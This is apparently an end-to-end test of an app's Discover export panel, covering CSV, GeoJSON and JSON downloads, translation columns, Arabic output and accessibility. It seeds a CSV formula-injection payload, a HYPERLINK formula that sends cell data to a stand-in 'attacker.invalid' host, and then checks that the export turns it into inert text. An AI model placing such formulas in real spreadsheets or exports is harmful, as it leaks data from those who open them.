// Exports from Discover (issue 14, item 5): with a facet applied, the Export
// panel (opened and closed from the keyboard) downloads the whole result as
// CSV, GeoJSON and JSON. The CSV, read by a CSV parser other than the one
// that wrote it, has one row per entity of the result: as many as the page's
// count and as the CLI finds for the same filter, the same ids; a formula
// another member put in a title comes out as text; a column-per-translation
// CSV carries every locale's text; GeoJSON has one Feature per located
// entity (the others are counted on the page); JSON has every entity with
// its translations. In Arabic the CSV's texts are Arabic where there is an
// Arabic text. axe-core finds nothing with the panel open; screenshots in
// English and Arabic.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import {
  checkSetup,
  cleanup,
  startAppNode,
  seedSpace,
  launchBrowser,
  openApp,
  onboard,
  until,
  screenshot,
  cli,
  assertAccessible,
  online,
  totalWhere,
} from './harness.mjs';

after(cleanup);

const TYPES = ['project', 'need', 'practice', 'city'];
const LOCALES = ['en', 'ko', 'zh', 'ru', 'es', 'tr', 'fr', 'ar'];
const SECTOR = 'energy';
const FORMULA = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Open")';
const FORMULA_LINES = '+1+1\nsecond line';
const ARABIC = 'مشروع اختبار التصدير';

// Clicks the export button of `format`; returns the file's name and bytes
// once the page says it is done.
async function download(page, format) {
  const [file] = await Promise.all([
    page.waitForEvent('download', { timeout: 30000 }),
    page.getByTestId(`export-${format}`).click(),
  ]);
  const bytes = fs.readFileSync(await file.path());
  await until(
    `the ${format} export to be reported`,
    async () => (await page.getByTestId('export-status').getAttribute('data-state')) === 'done',
  );
  return { name: file.suggestedFilename(), bytes };
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
function readCsv(bytes) {
  assert.ok(bytes.subarray(0, 3).equals(BOM), 'the CSV starts with a UTF-8 byte-order mark');
  return parse(bytes.toString('utf8'), { bom: true, columns: true });
}

test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 }, async () => {
  checkSetup();
  const node = await startAppNode();
  const admin = seedSpace(node, { cities: 24, projects: 240 });
  const city = cli(admin.home, ['find', admin.space, '--type', 'city', '--lang', 'en', '--limit', '1']).hits[0];
  // Another member writes formulas where a spreadsheet would run them.
  const evil = cli(admin.home, [
    'put',
    admin.space,
    'project',
    'new',
    `title@en=${FORMULA}`,
    `title@ar=${ARABIC}`,
    `summary@en=${FORMULA_LINES}`,
    `sector=${SECTOR}`,
    `city=${city.id}`,
    'lat=12.5',
    'lon=-8.25',
    '+tags=@cmd',
  ]).id;
  admin.sync();
  const { entities } = cli(admin.home, ['export', admin.space, '--format', 'json']);
  const byId = new Map(entities.map((e) => [e.id, e]));

  // What the CLI finds for the same filter, type by type (as the page counts).
  const expected = [];
  for (const type of TYPES) {
    const r = cli(admin.home, ['find', admin.space, '--type', type, '--where', `sector=${SECTOR}`, '--limit', '1000']);
    assert.equal(r.hits.length, r.total);
    expected.push(...r.hits.map((h) => h.id));
  }
  assert.ok(expected.includes(evil));
  const located = expected.filter(
    (id) => typeof byId.get(id).values.lat === 'number' && typeof byId.get(id).values.lon === 'number',
  );
  assert.ok(
    located.length > 0 && located.length < expected.length,
    'the result has entities with and without a location',
  );

  const chrome = await launchBrowser();
  const context = await chrome.newContext(); // accepts downloads
  const page = await openApp(context, node);
  await page.setViewportSize({ width: 1280, height: 900 });
  await onboard(page, { invite: admin.invite() });
  await online(page, 'the app');
  await totalWhere(page, 'the whole space', (n) => n > expected.length);
  await page.getByTestId('facet-sector').selectOption(SECTOR);
  const total = await totalWhere(page, `the ${SECTOR} result`, (n) => n === expected.length);
  assert.equal(new URLSearchParams((await page.evaluate(() => location.hash)).split('?')[1]).get('sector'), SECTOR);
  assert.ok(total > 20, 'more than one page of hits, so the export must gather past what is shown');

  // ---- the panel, from the keyboard -------------------------------------------------
  const button = page.getByTestId('export');
  await button.focus();
  await page.keyboard.press('Enter');
  await page.getByTestId('export-panel').waitFor();
  assert.equal(await button.getAttribute('aria-expanded'), 'true');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Escape');
  assert.equal(await page.getByTestId('export-panel').count(), 0);
  assert.equal(
    await page.evaluate(() => document.activeElement?.dataset.testid),
    'export',
    'focus returns to the button',
  );
  await page.keyboard.press('Enter');
  await page.getByTestId('export-panel').waitFor();

  // ---- CSV in English ------------------------------------------------------------------
  const csv = await download(page, 'csv');
  const spaceName = await page.evaluate(
    async (space) => (await window.urbisDb.spaces()).find((s) => s.space === space).name,
    admin.space,
  );
  const slug = spaceName ? 'Urbis-demo-fictional-cities' : admin.space.slice(0, 8);
  assert.match(csv.name, new RegExp(`^urbis-${slug}-\\d{4}-\\d\\d-\\d\\d\\.csv$`));
  const rows = readCsv(csv.bytes);
  assert.equal(rows.length, total, 'one row per entity of the result');
  assert.deepEqual(rows.map((r) => r.id).sort(), [...expected].sort(), 'the rows are the entities the CLI finds');
  assert.ok(rows.every((r) => r.sector === SECTOR));
  const row = rows.find((r) => r.id === evil);
  assert.equal(row.title, `'${FORMULA}`, 'a formula in a title is text');
  assert.equal(row.summary, `'${FORMULA_LINES}`, 'also when it goes on over lines');
  assert.equal(row.tags, `'@cmd`);
  assert.equal(row.city, city.id);
  assert.equal(row.city_name, city.title);
  assert.equal(row.lon, '-8.25', 'a negative number stays a number');
  for (const r of rows)
    for (const [k, v] of Object.entries(r))
      assert.ok(!/^[=+@]/.test(v) && (!v.startsWith('-') || Number.isFinite(Number(v))), `${k}: ${v}`);
  assert.equal(await page.getByTestId('export-status').getAttribute('data-unlocated'), '0');
  // The texts in English, or in the original language where there is no English.
  const zhOnly = rows.find((r) => byId.get(r.id).translations.title && !byId.get(r.id).translations.title.values.en);
  if (zhOnly) {
    const tr = byId.get(zhOnly.id).translations.title;
    assert.equal(zhOnly.title, tr.values[tr.original]);
  }

  // ---- CSV with a column per translation ------------------------------------------------
  await page.getByTestId('export-per-translation').check();
  const wide = readCsv((await download(page, 'csv')).bytes);
  assert.equal(wide.length, total);
  for (const l of LOCALES) assert.ok(`title@${l}` in wide[0], `a title@${l} column`);
  assert.ok(!('title' in wide[0]));
  const wideEvil = wide.find((r) => r.id === evil);
  assert.equal(wideEvil['title@ar'], ARABIC);
  assert.equal(wideEvil['title@en'], `'${FORMULA}`);
  const translated = wide.find(
    (r) => r.id !== evil && Object.keys(byId.get(r.id).translations.title?.values || {}).length > 1,
  );
  assert.ok(translated, 'the demo data has titles in several languages');
  for (const [l, text] of Object.entries(byId.get(translated.id).translations.title.values))
    assert.equal(translated[`title@${l}`], text);
  await page.getByTestId('export-per-translation').uncheck();

  // ---- GeoJSON ------------------------------------------------------------------------
  const geo = await download(page, 'geojson');
  assert.match(geo.name, /\.geojson$/);
  const collection = JSON.parse(geo.bytes.toString('utf8'));
  assert.equal(collection.type, 'FeatureCollection');
  assert.deepEqual(collection.features.map((f) => f.id).sort(), [...located].sort(), 'a Feature per located entity');
  for (const f of collection.features) {
    const e = byId.get(f.id);
    assert.deepEqual(f.geometry, { type: 'Point', coordinates: [e.values.lon, e.values.lat] });
    assert.equal(f.properties.sector, SECTOR);
  }
  assert.equal(collection.features.find((f) => f.id === evil).properties.translations.title.values.ar, ARABIC);
  assert.equal(await page.getByTestId('export-status').getAttribute('data-unlocated'), String(total - located.length));
  assert.match(
    await page.getByTestId('export-status').textContent(),
    new RegExp(`${total - located.length} results? without a location`),
  );

  // ---- JSON ---------------------------------------------------------------------------
  const json = await download(page, 'json');
  const doc = JSON.parse(json.bytes.toString('utf8'));
  assert.equal(doc.total, total);
  assert.equal(doc.space, admin.space);
  assert.deepEqual(doc.filters, { sector: SECTOR });
  assert.deepEqual(doc.entities.map((e) => e.id).sort(), [...expected].sort());
  const evilJson = doc.entities.find((e) => e.id === evil);
  assert.deepEqual(evilJson.translations.title.values, { en: FORMULA, ar: ARABIC }, 'JSON keeps the text as written');

  await screenshot(page, 'export-en');
  await assertAccessible(page, 'Discover with the export panel open');

  // ---- Arabic: the texts in Arabic where there are ---------------------------------------
  await page.getByTestId('language').selectOption('ar');
  await until('right-to-left', () => page.evaluate(() => document.documentElement.dir === 'rtl'));
  await page.getByTestId('export-panel').waitFor();
  await until('the panel in Arabic', async () => (await page.getByTestId('export').textContent()) === 'تصدير');
  const arRows = readCsv((await download(page, 'csv')).bytes);
  assert.equal(arRows.length, total);
  assert.equal(arRows.find((r) => r.id === evil).title, ARABIC);
  await screenshot(page, 'export-ar');
  await assertAccessible(page, 'Discover in Arabic with the export panel open');
});
